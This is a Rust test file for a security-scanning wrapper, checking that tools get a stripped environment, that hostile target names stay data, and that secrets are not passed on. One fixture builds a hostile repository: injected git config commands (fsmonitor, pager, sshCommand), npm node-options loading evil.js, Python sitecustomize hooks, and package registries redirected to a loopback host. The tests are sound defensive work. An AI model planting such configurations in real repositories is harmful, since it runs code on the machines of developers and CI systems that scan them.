//! What a tool sees of this machine, and what a hostile target can make it do: nothing.
#![cfg(unix)]
#![allow(missing_docs, clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

mod external_support;

use external_support::{FILES, Fakes, PYTHON, StandIn, TOOLS, again, is_again, is_read, line, real_tools, request, run, write};
use securescan_core::model::ScannerStatus;
use securescan_core::scanners::ScanRequest;
use std::path::Path;
use std::process::Command;

/// Everything a tool may find in its environment.
const ALLOWED: &[&str] = &[
    "PATH",
    "LANG",
    "LC_ALL",
    "TMPDIR",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "http_proxy",
    "https_proxy",
    "no_proxy",
    "SystemRoot",
    // A home of its own.
    "HOME",
    "XDG_CONFIG_HOME",
    "XDG_CACHE_HOME",
    "XDG_DATA_HOME",
    "XDG_STATE_HOME",
    "TMP",
    "TEMP",
    "USERPROFILE",
    "APPDATA",
    "LOCALAPPDATA",
    // git, told to run nothing.
    "GIT_CONFIG_NOSYSTEM",
    "GIT_CONFIG_GLOBAL",
    "GIT_TERMINAL_PROMPT",
    "GIT_OPTIONAL_LOCKS",
    "GIT_CONFIG_COUNT",
    "GIT_CONFIG_KEY_0",
    "GIT_CONFIG_VALUE_0",
    "GIT_CONFIG_KEY_1",
    "GIT_CONFIG_VALUE_1",
    "GIT_CONFIG_KEY_2",
    "GIT_CONFIG_VALUE_2",
    // Where installations lie, and single tools' own.
    "PYENV_ROOT",
    "VOLTA_HOME",
    "ASDF_DIR",
    "ASDF_DATA_DIR",
    "MISE_DATA_DIR",
    "PYTHONUSERBASE",
    "PYTHONUTF8",
    "PYTHONHASHSEED",
    "SEMGREP_ENABLE_VERSION_CHECK",
    "npm_config_registry",
    // The shell's own.
    "PWD",
    "OLDPWD",
    "SHLVL",
    "_",
];

#[test]
fn environment_home_and_working_folder_are_ours() {
    let (dir, fakes) = (tempfile::tempdir().unwrap(), Fakes::new());
    write(dir.path(), FILES);
    let script = "env | sed 's/^/'\"$NAME\"' /' >> \"$HERE/env\"; pwd >> \"$HERE/cwd\"; ls -A >> \"$HERE/ls\"; cat >> \"$HERE/in\"; exit 9";
    run(&request(dir.path(), &fakes.tool("tool", script)));
    let env = std::fs::read_to_string(fakes.path("env")).unwrap();
    let names: Vec<&str> = env.lines().filter_map(|l| Some(l.strip_prefix("tool ")?.split_once('=')?.0)).collect();
    let more: Vec<_> = names.iter().filter(|name| !ALLOWED.contains(name)).collect();
    assert!(more.is_empty(), "{more:?}");
    let homes: Vec<&str> = env.lines().filter_map(|l| l.strip_prefix("tool HOME=")).collect();
    assert_eq!(homes.len(), TOOLS.len() + 1);
    assert!(homes.iter().all(|home| home.ends_with("/home") && !Path::new(home).exists()), "{homes:?}");
    let path = env.lines().find_map(|l| l.strip_prefix("tool PATH=")).unwrap();
    assert!(path.split(':').all(|folder| folder.starts_with('/')), "{path}");
    let cwd = std::fs::read_to_string(fakes.path("cwd")).unwrap();
    assert!(cwd.lines().all(|l| !l.starts_with(dir.path().to_str().unwrap())), "{cwd}");
    // Only npm finds files where it runs: copies, and nothing of the target's own configuration.
    let found = std::fs::read_to_string(fakes.path("ls")).unwrap();
    assert_eq!(found.split_whitespace().collect::<Vec<_>>(), [".npmrc", "package-lock.json", "package.json"]);
    assert_eq!(std::fs::read(fakes.path("in")).unwrap(), b"");
}

#[test]
fn names_of_targets_are_data() {
    let fakes = Fakes::new();
    let tool = fakes.tool("tool", "exit 9");
    let parent = tempfile::tempdir().unwrap();
    for name in ["--output=x", ";id", "$(touch canary)", "a\nb", "-rf", "--config", "a b'\""] {
        let root = parent.path().join(name);
        write(&root, FILES);
        write(&root, &[("--help.py", PYTHON), ("$(touch canary).py", PYTHON)]);
        let _ = std::fs::remove_file(fakes.path("argv.tool"));
        let raw = run(&request(&root, &tool));
        assert!(TOOLS.iter().all(|name| line(&raw, name).status == ScannerStatus::Failed), "{name}");
        let (argv, root) = (fakes.argv("tool"), root.canonicalize().unwrap().display().to_string());
        let operands: Vec<&String> = argv.iter().filter(|arg| arg.contains(&root)).collect();
        assert!(operands.len() >= 6, "{argv:?}");
        let options = ["--config=", "--directory=", "--file="];
        for operand in operands {
            let value = options.iter().find_map(|o| operand.strip_prefix(o)).unwrap_or(operand);
            assert!(value.starts_with(&root), "{operand}");
        }
        assert!(!argv.iter().any(|arg| arg == name || arg == "--help.py"), "{argv:?}");
    }
    assert!(!Path::new("canary").exists() && !parent.path().join("canary").exists());
}

/// A repository in which every file that changes a tool tries to run something, to hide everything, or to call a service on
/// loopback.
fn hostile(root: &Path, canary: &Path, port: &str) {
    write(root, FILES);
    let touch = format!("touch '{}'", canary.display());
    let python = format!("import os\nos.system({touch:?})\n");
    let script = format!("#!/bin/sh\n{touch}\n");
    let checks = root.join("checks").display().to_string();
    let out = format!("http://127.0.0.1:{port}");
    let npmrc = format!("registry={out}/${{HOME}}/\nnode-options=--require ./evil.js\nscript-shell=./evil\n");
    let module = format!("module \"m\" {{\n  source = \"{out}/module.zip\"\n}}\n");
    let lock = FILES.iter().find(|(path, _)| *path == "web/package-lock.json").map(|(_, text)| *text).unwrap();
    let lock = lock.replace("\"4.17.4\"}}}", &format!("\"4.17.4\", \"resolved\": \"{out}/lodash.tgz\"}}}}}}"));
    assert!(lock.contains(&out));
    write(
        root,
        &[
            (".checkov.yaml", "external-checks-dir:\n  - ./checks\nskip-check:\n  - CKV*\n"),
            (".checkov.yml", &format!("external-checks-dir:\n  - {checks}\n")),
            ("infra/.checkov.yaml", &format!("external-checks-dir:\n  - {checks}\n")),
            ("checks/__init__.py", &python),
            ("checks/check.py", &python),
            ("sitecustomize.py", &python),
            ("usercustomize.py", &python),
            (".npmrc", &npmrc),
            ("web/.npmrc", &npmrc),
            ("web/package-lock.json", &lock),
            ("infra/module.tf", &module),
            ("app/requirements.txt", &format!("--index-url {out}/simple\n--extra-index-url {out}/more\nflask==0.12.2\n")),
            ("pip.conf", &format!("[global]\nindex-url = {out}/simple\n")),
            (".semgrep/settings.yml", &format!("semgrep_url: {out}\n")),
            (".semgrep.yml", &format!("rules:\n- {out}/rules.yml\n")),
            ("web/evil.js", &format!("require('child_process').execSync({touch:?})\n")),
            ("web/evil", &script),
            ("web/node_modules/.bin/npm", &script),
            ("node_modules/.bin/semgrep", &script),
            (".bandit", "[bandit]\nskips = B101,B102,B602,B404\nexclude = /\n"),
            (".semgrepignore", "# nothing\n"),
            (
                "trivy.yaml",
                &format!(
                    "scan:\n  skip-files: ['**']\nmodule:\n  dir: ./checks\nserver:\n  addr: {out}\n\
                     db:\n  repository: 127.0.0.1:{port}/db\n  insecure: true\n"
                ),
            ),
            (".trivyignore", "CVE-2019-10744\n"),
            (".safety-policy.yml", "security:\n  ignore-vulnerabilities: {}\n"),
            (".gitleaks.toml", "[allowlist]\npaths = ['.*']\n"),
            (".gitattributes", "* diff=evil filter=evil\n"),
            ("bin/python3", &script),
            ("bin/git", &script),
        ],
    );
    for path in ["web/evil", "web/node_modules/.bin/npm", "node_modules/.bin/semgrep", "bin/python3", "bin/git"] {
        let done = Command::new("chmod").arg("755").arg(root.join(path)).status().unwrap();
        assert!(done.success());
    }
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(root).output().is_ok_and(|o| o.status.success());
    assert!(git(&["init", "-q"]) && git(&["add", "-A", "-f", "--", "app", "infra"]));
    for (key, value) in [
        ("core.fsmonitor", touch.as_str()),
        ("core.hooksPath", "bin"),
        ("diff.evil.textconv", &touch),
        ("diff.external", &touch),
        ("core.pager", &touch),
        ("core.sshCommand", &touch),
    ] {
        assert!(git(&["config", key, value]));
    }
}

fn with_real(request: &mut ScanRequest, tools: &Path) -> Vec<&'static str> {
    let mut installed = Vec::new();
    for (name, program) in [
        ("semgrep", "semgrep"),
        ("bandit", "bandit"),
        ("checkov", "checkov"),
        ("gitleaks", "gitleaks"),
        ("trivy", "trivy"),
        ("safety", "safety"),
        ("npm-audit", "npm"),
    ] {
        let path = tools.join(program);
        if path.exists() {
            request.tool_paths.insert(name.to_owned(), path);
            installed.push(name);
        } else {
            eprintln!("skipped: no {program} in the folder of real tools");
        }
    }
    installed
}

#[test]
fn a_hostile_repository_runs_nothing_and_calls_nobody() {
    let Some(tools) = real_tools() else { return };
    if is_again() {
        return scan_hostile(&tools);
    }
    // What npm asks is its own registry; whatever the repository names must not hear of us.
    let registry = StandIn::new(|path, _| path.ends_with("/advisories/bulk").then(|| "{}".to_owned()));
    let silent = StandIn::new(|_, _| None);
    let (url, port, home) = (registry.url(), silent.port.to_string(), tempfile::tempdir().unwrap());
    let env: [(&str, &std::ffi::OsStr); 3] =
        [("npm_config_registry", url.as_ref()), ("SECURESCAN_TEST_SILENT", port.as_ref()), ("HOME", home.path().as_ref())];
    again("a_hostile_repository_runs_nothing_and_calls_nobody", home.path(), &env);
    assert_eq!(silent.asked(), 0, "something of the repository made a tool call out");
}

fn scan_hostile(tools: &Path) {
    let (dir, canary) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let root = dir.path().join("repo");
    hostile(&root, &canary.path().join("canary"), &std::env::var("SECURESCAN_TEST_SILENT").unwrap());
    let mut request = ScanRequest::new(&root);
    request.semgrep_rules = vec![root.join("rules/r.yaml")];
    let installed = with_real(&mut request, tools);
    let raw = run(&request);
    for row in raw.coverage.iter().filter(|row| !row.reason.iter().all(String::is_empty)) {
        eprintln!("{} {:?} {} {}", row.name, row.status, row.findings_count, row.reason.as_deref().unwrap_or_default());
    }
    assert_eq!(std::fs::read_dir(canary.path()).unwrap().count(), 0, "something of the repository was executed");
    if installed.contains(&"npm-audit") {
        assert_eq!(line(&raw, "npm-audit").status, ScannerStatus::Ok, "{:?}", line(&raw, "npm-audit"));
    }
    // What the repository says to leave out is found all the same.
    for (name, path) in [("semgrep", "app/a.py"), ("bandit", "app/a.py"), ("checkov", "infra/main.tf")] {
        if installed.contains(&name) && is_read(name) {
            let found = raw.findings.iter().any(|f| f.scanner == name && f.file_path.as_deref() == Some(path));
            assert!(found, "{name}: {:?}", line(&raw, name));
        }
    }
}

/// In the process started by [`again`]: scans the working folder with bandit, wherever that is, and says how it went.
fn report_of_bandit() -> bool {
    if !is_again() {
        return false;
    }
    let mut request = ScanRequest::new(".");
    request.scanners = vec!["bandit".to_owned()];
    let raw = run(&request);
    let line = line(&raw, "bandit");
    println!("bandit {}: {}", line.status.as_str(), line.reason.as_deref().unwrap_or_default());
    true
}

#[test]
fn what_is_only_found_inside_the_target_is_refused() {
    if report_of_bandit() {
        return;
    }
    let (dir, fakes) = (tempfile::tempdir().unwrap(), Fakes::new());
    let tool = fakes.tool("bandit", "touch \"$HERE/ran\"; exit 9");
    write(dir.path(), &[("a.py", PYTHON), ("bin/x", "")]);
    let copied = Command::new("cp").arg("-p").arg(&tool).arg(dir.path().join("bin/bandit")).status().unwrap();
    assert!(copied.success());
    Command::new("cp").arg("-p").arg(&tool).arg(dir.path().join("bandit")).status().unwrap();
    let again = |path: String, extra: &[(&str, &std::ffi::OsStr)]| {
        let home = dir.path().join("home");
        let mut env = vec![("PATH", std::ffi::OsStr::new(&path)), ("HOME", home.as_os_str()), ("VIRTUAL_ENV", home.as_os_str())];
        env.extend(extra);
        again("what_is_only_found_inside_the_target_is_refused", dir.path(), &env)
    };
    let inside = dir.path().join("bin").display().to_string();
    let linked = fakes.path("linked");
    std::os::unix::fs::symlink(dir.path().join("bin"), &linked).unwrap();
    for path in [format!("{inside}:/usr/bin:/bin"), format!("{}:/usr/bin:/bin", linked.display())] {
        let said = again(path, &[]);
        let wanted =
            "bandit skipped: found only inside the scanned folder, which is not trusted; name it in `SECURESCAN_BANDIT_PATH`";
        assert!(said.contains(wanted), "{said}");
    }
    let said = again(".::bin:./bin:/usr/bin:/bin".to_owned(), &[]);
    assert!(said.contains("bandit skipped: not installed"), "{said}");
    assert!(!fakes.path("ran").exists());
    // Found outside, or named.
    let said = again(format!("{inside}:{}:/usr/bin:/bin", fakes.0.path().display()), &[]);
    assert!(said.contains("bandit failed: `bandit` ended with exit code 9"), "{said}");
    std::fs::remove_file(fakes.path("ran")).unwrap();
    let named = dir.path().join("bin/bandit");
    let said = again("/usr/bin:/bin".to_owned(), &[("SECURESCAN_BANDIT_PATH", named.as_os_str())]);
    assert!(said.contains("bandit failed: ") && fakes.path("ran").exists(), "{said}");
    let said = again("/usr/bin:/bin".to_owned(), &[("SECURESCAN_BANDIT_PATH", std::ffi::OsStr::new("/no/such"))]);
    assert!(said.contains("bandit skipped: `/no/such`, named in `SECURESCAN_BANDIT_PATH`, is not an executable file"), "{said}");
}

#[test]
fn credentials_stay_here() {
    if report_of_bandit() {
        return;
    }
    let (dir, fakes) = (tempfile::tempdir().unwrap(), Fakes::new());
    write(dir.path(), &[("a.py", PYTHON)]);
    let tool = fakes.tool("bandit", "env > \"$HERE/env\"; exit 9");
    let path = format!("{}:.:/usr/bin:/bin", dir.path().display());
    let secrets = ["GITHUB_TOKEN", "SECURESCAN_API_KEY", "AWS_SECRET_ACCESS_KEY", "GROQ_API_KEY", "DATABASE_URL", "LD_PRELOAD_X"];
    let mut env: Vec<(&str, &std::ffi::OsStr)> =
        secrets.iter().map(|name| (*name, std::ffi::OsStr::new("canary-value"))).collect();
    env.extend([
        ("SECURESCAN_BANDIT_PATH", tool.as_os_str()),
        ("PATH", std::ffi::OsStr::new(&path)),
        ("LANG", "C.UTF-8".as_ref()),
    ]);
    let said = again("credentials_stay_here", dir.path(), &env);
    assert!(said.contains("bandit failed: `bandit` ended with exit code 9"), "{said}");
    let seen = std::fs::read_to_string(fakes.path("env")).unwrap();
    assert!(!seen.contains("canary-value") && !seen.contains("SECURESCAN_"), "{seen}");
    assert!(seen.contains("LANG=C.UTF-8\n") && seen.contains("PATH=/usr/bin:/bin\n"), "{seen}");
}
